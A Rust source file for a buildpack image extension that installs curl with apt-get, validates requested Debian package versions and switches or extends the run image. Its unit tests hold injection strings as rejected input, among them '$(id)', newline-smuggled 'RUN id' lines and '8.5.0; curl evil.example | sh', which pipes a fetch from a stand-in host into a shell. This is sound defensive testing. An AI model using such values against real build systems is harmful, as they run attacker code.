//! An image extension that installs `curl` with the distribution's package manager when a later
//! buildpack requires `curl`, and either switches the run image (`BP_CURL_RUN_IMAGE`) or extends
//! it with the same package.

use cnb_extension::untrusted::quoted;
use cnb_extension::{
    BuildDockerfile, DetectContext, DetectResult, DetectResultBuilder, DockerfileError,
    ExtendConfig, ExtendConfigError, Extension, ExtensionError, ExtensionPlanBuilder,
    GenerateContext, GenerateResult, GenerateResultBuilder, HeaderAndBody, ImageReference,
    ImageReferenceError, Log, PlatformEnvError, RunDockerfile, ShellCommand,
};

/// The platform variable that names a run image to switch to.
const RUN_IMAGE_ENV: &str = "BP_CURL_RUN_IMAGE";

struct CurlExtension;

#[derive(Debug)]
enum CurlError {
    /// The requested version is not a Debian package version.
    InvalidVersion(String),
    InvalidRunImage(ImageReferenceError),
    Dockerfile(DockerfileError),
    ExtendConfig(ExtendConfigError),
    /// `<platform>/env/BP_CURL_RUN_IMAGE` exists but is no value.
    Platform(PlatformEnvError),
}

impl HeaderAndBody for CurlError {
    fn header(&self) -> String {
        match self {
            Self::InvalidVersion(_) => "Invalid curl version in the build plan".to_string(),
            Self::InvalidRunImage(_) => format!("Invalid {RUN_IMAGE_ENV}"),
            Self::Dockerfile(error) => error.header(),
            Self::ExtendConfig(error) => error.header(),
            Self::Platform(error) => error.header(),
        }
    }

    fn body(&self) -> String {
        match self {
            Self::InvalidVersion(version) => format!(
                "The build plan requests curl version {}, which is not a Debian package \
                 version.\nRequest digits, then letters, digits and any of .+~:-, e.g. \
                 7.88.1-10+deb12u5.",
                quoted(version)
            ),
            Self::InvalidRunImage(error) => format!(
                "{RUN_IMAGE_ENV}: {error}.\nSet it to the run image to switch to, or unset it to \
                 add curl to the stack's run image."
            ),
            Self::Dockerfile(error) => error.body(),
            Self::ExtendConfig(error) => error.body(),
            Self::Platform(error) => error.body(),
        }
    }
}

impl From<DockerfileError> for CurlError {
    fn from(error: DockerfileError) -> Self {
        Self::Dockerfile(error)
    }
}

impl From<ExtendConfigError> for CurlError {
    fn from(error: ExtendConfigError) -> Self {
        Self::ExtendConfig(error)
    }
}

fn is_debian_version(version: &str) -> bool {
    version.starts_with(|c: char| c.is_ascii_digit())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".+~:-".contains(c))
}

/// `apt-get update && apt-get install -y --no-install-recommends <package> && apt-get clean`.
fn install(package: &str) -> ShellCommand {
    ShellCommand::new("apt-get")
        .arg("update")
        .and(
            ShellCommand::new("apt-get")
                .args(["install", "-y", "--no-install-recommends"])
                .arg(package),
        )
        .and(ShellCommand::new("apt-get").arg("clean"))
}

impl Extension for CurlExtension {
    type Metadata = cnb_extension::libcnb_data::generic::GenericMetadata;
    type Error = CurlError;

    fn detect(&self, _context: DetectContext<Self>) -> Result<DetectResult, CurlError> {
        DetectResultBuilder::pass()
            .build_plan(
                ExtensionPlanBuilder::new()
                    .provides("curl")
                    .or()
                    .provides("curl")
                    .provides("libcurl")
                    .build(),
            )
            .build()
    }

    fn generate(&self, context: GenerateContext<Self>) -> Result<GenerateResult, CurlError> {
        let mut log = Log::stdout();
        let info = &context.extension_descriptor.extension;
        log.header(info.display_name(), &info.version.to_string());

        let requested = context
            .buildpack_plan
            .entries
            .iter()
            .filter(|entry| entry.name == "curl")
            .find_map(|entry| entry.metadata.get("version")?.as_str().map(str::to_string));
        let package = match &requested {
            Some(version) if !is_debian_version(version) => {
                return Err(CurlError::InvalidVersion(version.clone()));
            }
            Some(version) => {
                log.step(&format!(
                    "Installing curl {version} (requested by the build plan)"
                ));
                format!("curl={version}")
            }
            None => {
                log.step("Installing curl (no version requested)");
                "curl".to_string()
            }
        };

        let build = BuildDockerfile::new()
            .user_root()
            .arg("DEBIAN_FRONTEND")?
            .run(install(&package))?
            .restore_user();

        let run_image = context
            .platform
            .setting(RUN_IMAGE_ENV)
            .map_err(CurlError::Platform)?;
        let run = if let Some(image) = run_image {
            let image: ImageReference = image.parse().map_err(CurlError::InvalidRunImage)?;
            log.step(&format!(
                "Switching the run image to {image} ({RUN_IMAGE_ENV})"
            ));
            RunDockerfile::switch_to(image)
        } else {
            log.step("Adding curl to the run image");
            RunDockerfile::extend()
                .user_root()
                .arg("DEBIAN_FRONTEND")?
                .run(install(&package))?
                .restore_user()
                .rebasable()
                .into()
        };

        GenerateResultBuilder::new()
            .build_dockerfile(build)
            .run_dockerfile(run)
            .extend_config(
                ExtendConfig::new()
                    .build_arg("DEBIAN_FRONTEND", "noninteractive")?
                    .run_arg("DEBIAN_FRONTEND", "noninteractive")?,
            )
            .build()
    }

    /// `ERROR: <header>`, then the body indented (`HeaderAndBody` above).
    fn on_error(&self, error: ExtensionError<CurlError>) {
        cnb_extension::cnb_output::print_error(&error);
    }
}

cnb_extension::extension_main!(CurlExtension);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debian_versions() {
        for ok in ["7.88.1", "7.88.1-10+deb12u5", "1:2.0~rc1"] {
            assert!(is_debian_version(ok), "{ok}");
        }
        for bad in ["", "latest", "7.88; id", "7.88\nRUN id", "$(id)", "7 .88"] {
            assert!(!is_debian_version(bad), "{bad}");
        }
    }

    /// Every error as the user sees it, one snapshot per variant (`src/snapshots/`).
    #[test]
    fn messages() {
        let image_error = |input: &str| input.parse::<ImageReference>().unwrap_err();
        let errors = [
            (
                "invalid_version",
                CurlError::InvalidVersion("8.5.0; curl evil.example | sh".to_string()),
            ),
            (
                "invalid_run_image",
                CurlError::InvalidRunImage(image_error("ubuntu\nRUN id")),
            ),
            (
                "dockerfile",
                CurlError::Dockerfile(DockerfileError::UnsafeValue {
                    what: "RUN argument",
                    value: "curl=8\nRUN id".to_string(),
                }),
            ),
            (
                "extend_config",
                CurlError::ExtendConfig(ExtendConfigError::ReservedName("user_id".to_string())),
            ),
        ];
        for (name, error) in errors {
            insta::assert_snapshot!(name, cnb_extension::cnb_output::render_error(&error));
        }
    }
}
